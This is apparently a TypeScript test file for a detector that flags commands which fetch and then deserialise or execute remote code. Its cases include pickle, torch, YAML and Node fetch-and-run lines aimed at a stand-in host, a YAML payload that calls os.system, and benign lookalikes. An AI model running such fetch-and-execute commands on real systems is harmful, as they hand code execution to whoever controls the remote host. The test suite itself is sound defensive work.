import { describe, expect, it } from 'vitest';
import './told.js';

const python = (...lines: readonly string[]): string => `python3 - <<'PY'\n${lines.join('\n')}\nPY`;

describe('objects that run code as they are read', () => {
  it.each([
    [python('import pickle, urllib.request', 'blob = urllib.request.urlopen("http://x.test/m.pkl").read()', 'model = pickle.loads(blob)'), 'execute host:http://x.test/m.pkl'],
    [python('import requests, dill', 'r = requests.get("https://x.test/m")', 'data = r.content', 'dill.loads(data)'), 'execute host:https://x.test/m'],
    [python('from pickle import load', 'from urllib.request import urlopen', 'with urlopen("https://x.test/a") as f:', '    load(f)'), 'execute host:https://x.test/a'],
    [python('import io, torch, requests', 'r = requests.get("https://x.test/m.pt")', 'torch.load(io.BytesIO(r.content), weights_only=False)'), 'execute host:https://x.test/m.pt'],
    [python('import socket, pickle', "s = socket.create_connection(('x.test', 99))", 'pickle.loads(s.recv(9999))'), 'execute host:a connection'],
    [python('import numpy as np, io, requests', "np.load(io.BytesIO(requests.get('https://x.test/a').content), allow_pickle=True)"), 'execute host:https://x.test/a'],
    [python('import yaml, requests', "yaml.load(requests.get('https://x.test/a').text, Loader=yaml.UnsafeLoader)"), 'execute host:https://x.test/a'],
    [python('import pandas as pd', "pd.read_pickle('https://x.test/d.pkl')"), 'execute host:https://x.test/d.pkl'],
    [python('import yaml', 'text = "!!python/object/apply:os.system [id]"', 'yaml.unsafe_load(text)'), 'execute hidden-command:yaml'],
    [`ruby -ropen-uri -e 'Marshal.load(URI.open("https://x.test/a").read)'`, 'execute host:https://x.test/a'],
    [`php -r 'unserialize(file_get_contents("https://x.test/a"));'`, 'execute host:https://x.test/a'],
    [python('import joblib, urllib.request', 'urllib.request.urlretrieve("https://x.test/m", "m.joblib")', 'joblib.load("m.joblib")'), 'execute host:https://x.test/m'],
    [python('import requests, pickle', 'r = requests.get("https://x.test/m")', 'with open("m.pkl", "wb") as f:', '    f.write(r.content)', 'with open("m.pkl", "rb") as g:', '    pickle.load(g)', 'pickle.dump({}, open("other.pkl", "wb"))'), 'execute host:https://x.test/m'],
    [`curl -sLo m.pkl https://x.test/m && python3 -c "import pickle; pickle.load(open('m.pkl','rb'))"`, 'execute host:m.pkl'],
    [`node -e "fetch('https://x.test/p.js').then(r=>r.text()).then(t=>new Function('require',t)(require))"`, 'execute host:https://x.test/p.js'],
    [`node -e "fetch('https://x.test/p.js').then(r=>r.text()).then(Function)"`, 'execute host:https://x.test/p.js'],
    [`node -e "const vm=require('vm');fetch('https://x.test/p.js').then(r=>r.text()).then(t=>vm.compileFunction(t)())"`, 'execute host:https://x.test/p.js'],
    [`node -e "const M=require('module');fetch('https://x.test/p.js').then(r=>r.text()).then(t=>{const m=new M('x');m._compile(t,'x.js')})"`, 'execute host:https://x.test/p.js'],
  ])('%s', async (command, expected) => {
    await expect(command).toTell(expected);
  });

  it.each([
    python('import pickle', "pickle.load(open('cache.pkl','rb'))"),
    python('import pickle', "pickle.loads(pickle.dumps({'a': 1}))"),
    python('import pickle, requests, os', 'if os.path.exists("c.pkl"):', '    d = pickle.load(open("c.pkl", "rb"))', 'else:', '    d = requests.get("https://x.test/a").json()', '    pickle.dump(d, open("c.pkl", "wb"))'),
    python('import requests, pickle', 's = requests.Session()', 'with open("cookies.pkl", "rb") as f:', '    s.cookies.update(pickle.load(f))', 's.get("https://x.test")'),
    python('import torch, requests', 'requests.post("https://x.test/metrics", json={})', 'ck = torch.load("last.pt")', 'torch.save(ck, "best.pt")'),
    python('import torch, io, requests', "torch.load(io.BytesIO(requests.get('https://x.test/m').content), weights_only=True)"),
    python('import json, requests', "json.loads(requests.get('https://x.test').text)"),
    python('import yaml, requests', "yaml.safe_load(requests.get('https://x.test/a').text)", "yaml.load(requests.get('https://x.test/a').text, Loader=yaml.SafeLoader)"),
    python('import yaml', 'print(yaml.unsafe_load("!!python/tuple [1, 2]"), yaml.safe_load("!!python/object/apply:os.system [id]"))'),
    python('import numpy as np, io, requests', "np.load(io.BytesIO(requests.get('https://x.test/a').content))"),
    `node -e "fetch('https://x.test/x').then(r=>r.json()).then(j=>{const f=new Function('a','return a+1'); console.log(f(j.n))})"`,
  ])('and not %s', async (command) => {
    await expect(command).not.toTell(/^execute (?:host|\?)/);
  });
});
